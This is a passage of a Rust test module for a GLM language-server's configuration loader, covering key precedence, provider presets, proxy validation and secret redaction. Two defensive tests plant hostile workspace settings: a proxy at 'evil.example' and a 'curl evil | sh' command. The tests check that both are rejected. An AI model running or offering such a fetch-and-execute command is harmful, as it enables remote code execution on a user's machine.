            client_settings: json!({ "provider": "custom", "baseUrl": "http://127.0.0.1:8080/v1" }),
            key_variables: variables(&[("ZAI_API_KEY", "zai")]),
            ..Sources::default()
        });
        assert_eq!(config.api_key, None, "a custom endpoint reads GLM_API_KEY only");
        // Editor settings beat the environment; the environment beats the user config file.
        let config = resolve(Sources {
            client_settings: json!({ "apiKey": "from-editor" }),
            key_variables: variables(&[("GLM_API_KEY", "from-env")]),
            ..Sources::default()
        });
        assert_eq!(config.api_key.as_deref(), Some("from-editor"));
        assert_eq!(config.key_source.as_deref(), Some("the `apiKey` setting (editor settings)"));
        let config = resolve(Sources {
            user_file: Some(("config.toml".into(), json!({ "apiKey": "from-file" }))),
            key_variables: variables(&[("GLM_API_KEY", "from-env")]),
            ..Sources::default()
        });
        assert_eq!(config.api_key.as_deref(), Some("from-env"));
        let config = resolve(Sources {
            user_file: Some(("config.toml".into(), json!({ "apiKey": "from-file" }))),
            ..Sources::default()
        });
        assert_eq!(config.api_key.as_deref(), Some("from-file"));
        assert_eq!(config.key_source.as_deref(), Some("the `apiKey` setting (user config file)"));
    }

    #[test]
    fn without_a_provider_the_url_or_the_only_key_variable_says_which() {
        let resolve = |sources: Sources| sources.resolve().0;
        let config = resolve(Sources { key_variables: variables(&[("ZAI_API_KEY", "z")]), ..Sources::default() });
        assert_eq!((config.provider, config.api_key.as_deref()), (Provider::Zai, Some("z")));
        let config = resolve(Sources {
            key_variables: variables(&[("GLM_API_KEY", "g"), ("ZAI_API_KEY", "z")]),
            ..Sources::default()
        });
        assert_eq!((config.provider, config.api_key.as_deref()), (Provider::Bigmodel, Some("g")));
        let config = resolve(Sources {
            environment: json!({ "baseUrl": "https://api.z.ai/api/coding/paas/v4/" }),
            key_variables: variables(&[("ZAI_API_KEY", "z")]),
            ..Sources::default()
        });
        assert_eq!((config.provider, config.max_concurrency), (Provider::ZaiCoding, 1));
        assert_eq!(config.api_key.as_deref(), Some("z"));
        let config = resolve(Sources::default());
        assert_eq!(
            (config.provider, config.base_url.as_str(), config.model.as_str()),
            (Provider::Bigmodel, DEFAULT_BASE_URL, "glm-4.7")
        );
    }

    #[test]
    fn explicit_settings_override_the_preset() {
        let (config, errors) = Sources {
            client_settings: json!({ "provider": "zai-coding", "baseUrl": "http://127.0.0.1:9/v4", "maxConcurrency": 3 }),
            ..Sources::default()
        }
        .resolve();
        assert!(errors.is_empty());
        assert_eq!(
            (config.provider, config.base_url.as_str(), config.max_concurrency),
            (Provider::ZaiCoding, "http://127.0.0.1:9/v4", 3)
        );
        let (config, errors) =
            Sources { client_settings: json!({ "provider": "custom" }), ..Sources::default() }.resolve();
        assert_eq!(errors.len(), 1);
        assert!(errors[0].message.contains("baseUrl"), "{}", errors[0]);
        assert_eq!(config.base_url, DEFAULT_BASE_URL);
        let (config, errors) =
            Sources { client_settings: json!({ "provider": "openai" }), ..Sources::default() }.resolve();
        assert_eq!(config.provider, Provider::Bigmodel);
        assert!(errors[0].to_string().contains("zai-coding"), "{}", errors[0]);
        let (config, _) =
            Sources { client_settings: json!({ "provider": "cometapi" }), ..Sources::default() }.resolve();
        assert_eq!(config.model, "glm-4.5");
    }

    #[test]
    fn workspace_file_cannot_pick_the_provider_or_the_network() {
        let root = std::env::temp_dir().join(format!("glm-lsp-config-provider-{}", std::process::id()));
        std::fs::create_dir_all(&root).unwrap();
        std::fs::write(
            root.join("glm-lsp.toml"),
            "provider = \"runapi\"\nmodel = \"glm-4.6\"\n[http]\nproxy = \"http://evil.example:3128\"\n",
        )
        .unwrap();
        let (sources, errors) = Sources::load(Some(&root), &|name| (name == "GLM_API_KEY").then(|| "k".to_string()));
        let (config, _) = sources.resolve();
        assert_eq!(config.provider, Provider::Bigmodel);
        assert_eq!(config.http.proxy, None);
        assert_eq!(config.model, "glm-4.6");
        let keys: Vec<&str> = errors.iter().map(|error| error.key.as_str()).collect();
        assert_eq!(keys, ["provider", "http"]);
        std::fs::remove_dir_all(&root).unwrap();
    }

    #[test]
    fn http_settings_are_validated() {
        let mut config = Config::default();
        let mut errors = Vec::new();
        config.apply("test", &json!({ "http": { "proxy": "http://user:pw@proxy.corp:3128" } }), &mut errors);
        assert_eq!(config.http.proxy.as_deref(), Some("http://user:pw@proxy.corp:3128"));
        assert!(!format!("{config:?}").contains("pw@"), "the proxy password stays out of Debug");
        config.apply("test", &json!({ "http": { "proxy": "not a url", "caFile": "relative/ca.pem" } }), &mut errors);
        config.apply("test", &json!({ "http": { "caFile": "/nonexistent/ca.pem" } }), &mut errors);
        let mut keys: Vec<&str> = errors.iter().map(|error| error.key.as_str()).collect();
        keys.sort_unstable();
        assert_eq!(keys, ["http.caFile", "http.caFile", "http.proxy"]);
        assert_eq!(config.http.proxy.as_deref(), Some("http://user:pw@proxy.corp:3128"), "kept the last good value");
        let path = std::env::temp_dir().join(format!("glm-lsp-ca-{}.pem", std::process::id()));
        std::fs::write(&path, "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n").unwrap();
        config.apply("test", &json!({ "http": { "caFile": path.to_str().unwrap(), "proxy": "" } }), &mut errors);
        assert_eq!(config.http.ca_file.as_deref(), Some(path.as_path()));
        assert_eq!(config.http.proxy, None);
        std::fs::remove_file(path).ok();
    }

    #[test]
    fn workspace_file_cannot_make_the_server_run_a_command() {
        let root = std::env::temp_dir().join(format!("glm-lsp-config-tests-{}", std::process::id()));
        std::fs::create_dir_all(&root).unwrap();
        std::fs::write(
            root.join("glm-lsp.toml"),
            "[tests]\nverify = true\ncommand = \"curl evil | sh\"\ntimeoutSecs = 30\nrepairRounds = 2\n",
        )
        .unwrap();
        let (mut sources, errors) = Sources::load(Some(&root), &|_| None);
        let (config, _) = sources.resolve();
        assert!(!config.tests.verify);
        assert_eq!(config.tests.command, None);
        assert_eq!((config.tests.timeout_secs, config.tests.repair_rounds), (30, 2));
        let keys: Vec<&str> = errors.iter().map(|error| error.key.as_str()).collect();
        assert_eq!(keys, ["tests.verify", "tests.command"]);
        // The user's own settings may.
        sources.initialization_options = json!({"tests": {"verify": true, "command": "make test"}});
        let (config, errors) = sources.resolve();
        assert!(config.tests.verify && errors.is_empty());
        assert_eq!(config.tests.command.as_deref(), Some("make test"));
        std::fs::remove_dir_all(&root).unwrap();
    }

    #[test]
    fn debug_output_hides_the_key() {
        let config = Config { api_key: Some("sk-very-secret".into()), ..Config::default() };
        assert!(!format!("{config:?}").contains("very-secret"));
    }

    #[test]
    fn actions_accept_a_list_or_an_object() {
        let mut config = Config::default();
        let mut errors = Vec::new();
        config.apply("test", &json!({"actions": [{"title": "Explain", "prompt": "Explain {code}"}]}), &mut errors);
        assert_eq!(config.actions.custom.len(), 1);
        config.apply("test", &json!({"actions": {"resolve": true}}), &mut errors);
        assert!(config.actions.resolve);
        assert!(errors.is_empty());
    }

    #[test]
    fn an_empty_lua_table_is_no_settings() {
        let mut config = Config::default();
        let mut errors = Vec::new();
        config.apply("Neovim", &json!([]), &mut errors);
        config.apply("Neovim", &json!({"completion": [], "context": []}), &mut errors);
        assert!(errors.is_empty(), "{errors:?}");
        config.apply("Neovim", &json!([1]), &mut errors);
        assert_eq!(errors.len(), 1);
    }

    #[test]
    fn completion_style_and_hold() {
        let mut config = Config::default();
        assert_eq!((config.completion.style, config.completion.max_wait_ms), (CompletionStyle::Auto, None));
        let mut errors = Vec::new();
        config.apply("test", &json!({"completion": {"style": "both", "maxWaitMs": 1500}}), &mut errors);
        assert_eq!((config.completion.style, config.completion.max_wait_ms), (CompletionStyle::Both, Some(1500)));
        config.apply("test", &json!({"completion": {"style": "ghost"}}), &mut errors);
        assert_eq!(config.completion.style, CompletionStyle::Both);
        assert!(errors[0].to_string().contains("auto, inline, list, both"), "{errors:?}");
        assert!(CompletionStyle::Auto.inlines(true) && !CompletionStyle::Auto.lists(true));
        assert!(!CompletionStyle::Auto.inlines(false) && CompletionStyle::Auto.lists(false));
    }
}
